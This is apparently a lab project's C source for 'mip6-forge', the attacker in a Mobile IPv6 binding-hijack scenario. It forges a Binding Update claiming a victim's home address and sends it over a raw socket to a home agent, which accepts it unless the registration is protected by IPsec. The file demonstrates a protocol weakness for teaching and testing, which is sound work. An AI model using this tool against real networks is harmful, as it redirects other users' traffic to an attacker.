/* mip6-forge: the binding hijack's attacker (scenario hijack, docs/hijack.md). One
 * Binding Update for somebody else's home address, with the attacker's own address as
 * care-of address: IPv6(src COA, dst HA) | Destination Options(HAO = HOA) | MH BU with
 * the A and H flags, built by the lab's codec (common/ip6pkt.c, the one mip6d uses) and
 * written whole to a raw IPv6 socket. A home agent without IPsec for the home
 * registration believes it; one with RFC 3776's ESP drops it, since the attacker has
 * no key. Exit 0 sent (or printed with -n), 1 socket error, 2 usage. */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "ip6pkt.h"

static int usage(FILE *out, int rc)
{
	fprintf(out,
		"usage: mip6-forge [-s SEQ] [-l LIFETIME_S] [-n] COA HA HOA\n"
		"  Sends one Binding Update for the home address HOA to the home agent HA with\n"
		"  COA (the sender's own address) as care-of address: a Home Address option,\n"
		"  the A and H flags, built by the lab's MH codec; needs root or CAP_NET_RAW.\n"
		"  -s SEQ         sequence number, 0-65535 (default 1); the home agent accepts it\n"
		"                 only ahead of the binding's last one (modulo 65536)\n"
		"  -l LIFETIME_S  lifetime asked for, 4-262140 s in 4 s units (default 262140)\n"
		"  -n             print the packet in hex instead of sending it\n"
		"  -h             this help\n");
	return rc;
}

/* A whole decimal number in [min, max]. */
static int number(const char *s, unsigned long min, unsigned long max, unsigned long *v)
{
	char *end;

	if (!*s || *s == '-' || *s == '+')
		return -1;
	errno = 0;
	*v = strtoul(s, &end, 10);
	return (errno || *end || *v < min || *v > max) ? -1 : 0;
}

int main(int argc, char **argv)
{
	unsigned long seq = 1, life = 262140;
	struct in6_addr coa, ha, hoa;
	struct sockaddr_in6 to = { .sin6_family = AF_INET6 };
	struct ip6_spec sp = { 0 };
	struct mh_msg m;
	uint8_t pkt[256];
	char a[3][INET6_ADDRSTRLEN];
	bool print = false;
	size_t len;
	int c, fd;

	while ((c = getopt(argc, argv, "s:l:nh")) != -1) {
		switch (c) {
		case 's':
			if (number(optarg, 0, 65535, &seq) < 0)
				return usage(stderr, 2);
			break;
		case 'l':
			if (number(optarg, 4, 262140, &life) < 0)
				return usage(stderr, 2);
			break;
		case 'n':
			print = true;
			break;
		case 'h':
			return usage(stdout, 0);
		default:
			return usage(stderr, 2);
		}
	}
	if (argc - optind != 3 || inet_pton(AF_INET6, argv[optind], &coa) != 1 ||
	    inet_pton(AF_INET6, argv[optind + 1], &ha) != 1 ||
	    inet_pton(AF_INET6, argv[optind + 2], &hoa) != 1)
		return usage(stderr, 2);
	sp.src = coa;
	sp.dst = ha;
	sp.hoa = &hoa;
	mh_bu_init(&m, (uint16_t)seq, MH_BU_A | MH_BU_H, (uint32_t)life);
	if (ip6_build_mh(&sp, &m, pkt, sizeof(pkt), &len) != PKT_OK) {
		fprintf(stderr, "mip6-forge: the codec could not build the BU\n");
		return 1;
	}
	inet_ntop(AF_INET6, &coa, a[0], sizeof(a[0]));
	inet_ntop(AF_INET6, &ha, a[1], sizeof(a[1]));
	inet_ntop(AF_INET6, &hoa, a[2], sizeof(a[2]));
	if (print) {
		for (size_t i = 0; i < len; i++)
			printf("%02x", pkt[i]);
		printf("\n");
		return 0;
	}
	/* IPPROTO_RAW: the kernel sends the header as written, the HAO with it (a socket
	 * option cannot add one for an address that is not the sender's). */
	fd = socket(AF_INET6, SOCK_RAW, IPPROTO_RAW);
	to.sin6_addr = ha;
	if (fd < 0 || sendto(fd, pkt, len, 0, (struct sockaddr *)&to, sizeof(to)) < 0) {
		fprintf(stderr, "mip6-forge: sending the BU from %s to %s: %s\n", a[0], a[1],
			strerror(errno));
		return 1;
	}
	close(fd);
	printf("mip6-forge: BU seq %lu lifetime %u s flags AH from %s (home address %s) to %s: "
	       "%zu bytes sent\n", seq, mh_units_to_sec(m.bu.lifetime_units), a[0], a[2], a[1],
	       len);
	return 0;
}
